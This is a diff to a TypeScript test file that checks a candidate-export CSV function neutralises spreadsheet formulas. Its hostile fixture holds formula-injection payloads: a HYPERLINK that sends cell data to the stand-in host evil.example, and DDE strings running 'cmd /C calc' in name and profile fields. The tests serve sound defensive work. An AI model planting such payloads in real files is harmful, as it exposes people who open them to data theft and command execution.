@@ -36,12 +36,12 @@ const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?[\d\s()
 const HOSTILE = {
   firstName: '=HYPERLINK("http://evil.example/?d="&C2,"Open")',
   lastName: 'Fischer',
-  location: 'Berlin;=1+cmd|\' /C calc\'!A0',
-  currentCompany: '@SUM(1+1)*cmd|\' /C calc\'!A0',
-  currentTitle: '+1+cmd|\' /C calc\'!A0',
+  location: "Berlin;=1+cmd|' /C calc'!A0",
+  currentCompany: "@SUM(1+1)*cmd|' /C calc'!A0",
+  currentTitle: "+1+cmd|' /C calc'!A0",
   qualification: '\t=1+1',
   summary: 'fine',
-  skills: ['-2+3+cmd|\' /C calc\'!A0', 'React'],
+  skills: ["-2+3+cmd|' /C calc'!A0", 'React'],
 }
 
 describe('csvCell', () => {
@@ -70,7 +70,7 @@ describe('csvCell', () => {
     expect(csvCell(input)).toBe(expected)
   })
 
-  it("a row's first cell is neutralised even when it looks like a number (a \";\" reader runs it on into the next cells)", () => {
+  it('a row\'s first cell is neutralised even when it looks like a number (a ";" reader runs it on into the next cells)', () => {
     expect(csvCell('+1 555 0100', true)).toBe("'+1 555 0100")
     expect(csvCell('+1 555 0100', false)).toBe('+1 555 0100')
   })
@@ -98,7 +98,10 @@ describe('the candidate export', () => {
 
   it('neutralises every formula, read with "," or with ";"', async () => {
     const cookie = await as.acmeOwner()
-    const res = await SELF.fetch(`http://${HOST.acme}/api/v1/wildcard/candidates/export/details?format=csv&search=Fischer`, { headers: { cookie } })
+    const res = await SELF.fetch(
+      `http://${HOST.acme}/api/v1/wildcard/candidates/export/details?format=csv&search=Fischer`,
+      { headers: { cookie } },
+    )
     expect(res.status).toBe(200)
     const text = await res.text()
     for (const separator of [',', ';'] as const) {
